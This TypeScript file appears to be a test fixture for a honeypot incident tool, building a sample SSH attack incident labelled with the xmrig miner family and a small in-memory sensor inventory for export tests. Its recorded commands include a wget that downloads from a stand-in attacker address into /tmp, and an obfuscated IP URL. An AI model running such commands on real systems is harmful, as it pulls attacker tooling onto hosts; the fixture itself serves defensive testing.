/** An incident of two attacks that name a honeypot of an inventory, for the tests of exports. */
import type { Incident } from '@apiary/model/api/incidents.ts';
import { StateDatabase } from '../../state/database.ts';

export const hash = 'ab'.repeat(32);
const attack: Incident['attacks'][number] = {
  attack_id: '1',
  first_ts: '2026-03-01T00:00:00.000001Z',
  last_ts: '2026-03-01T00:10:00.000000Z',
  source: '203.0.113.7',
  attacker_ip: '203.0.113.7',
  attacker_country: 'SK',
  attacker_asn: 64_496,
  service: 'ssh',
  cve: '',
  sensors: [1],
  sessions: 1,
  events: 3,
  actions: { input: 3 },
  log_ins: 1,
  tool: 'script or program',
  tool_confidence: 0.8,
  weakness: 'configuration',
  stage: 'brought a tool',
  results: ['increased access'],
  families: ['xmrig'],
  techniques: ['T1105'],
  commands: [
    'wget "http://198.51.100.9/a;b" -O /tmp/x',
    'echo secret-pot',
    'echo c2VjcmV0LXBvdA== | base64 -d',
  ],
  urls: ["http://198.51.100.9/a;b?c='d'", 'http://pot.example/from/192.0.2.66', 'http://3221226050/x'],
  files: [hash, 'not a hash'],
  links: [],
};
export const data: Incident = {
  incident: {
    number: 12,
    incident_id: '1',
    first_ts: attack.first_ts,
    last_ts: attack.last_ts,
    attacks: 2,
    events: 4,
    sources: 2,
    sensors: [1],
    countries: ['SK'],
    services: ['ssh'],
    stage: 'brought a tool',
    tools: ['script or program'],
    families: ['xmrig'],
    attacker: 'professional criminal',
    attacker_confidence: 0.8,
    objectives: ['financial gain'],
    name: 'Visit to secret-pot',
    status: 'open',
    assignee: 'eva',
    pinned: false,
    judged: [],
    is_partial: false,
  },
  asked: 12,
  rules: { attacker: 'unknown', attacker_confidence: 0, objectives: [] },
  evidence: [],
  judgements: [],
  groupings: [],
  attacks: [
    attack,
    {
      ...attack,
      attack_id: '2',
      source: '2001:db8:1:2::/64',
      attacker_ip: '2001:db8:1:2::9',
      urls: [],
      files: [],
      commands: [],
    },
  ],
  is_cut: false,
  narrative: ['It came to secret-pot.'],
};

export function openInventory(): StateDatabase {
  const state = new StateDatabase(':memory:');
  state.run("INSERT INTO sensor (sensor_id, name, type, created_ms) VALUES (1, 'secret-pot', 'cowrie', 0)");
  state.run(
    "INSERT INTO honeypot (honeypot_id, name, interaction, role, location) VALUES (1, 'pot', 'low', 'server', 'Example cellar')",
  );
  state.run(
    "INSERT INTO honeypot_address (honeypot_id, address, side, valid_from_ms) VALUES (1, '192.0.2.66', 'public', 0)",
  );
  return state;
}
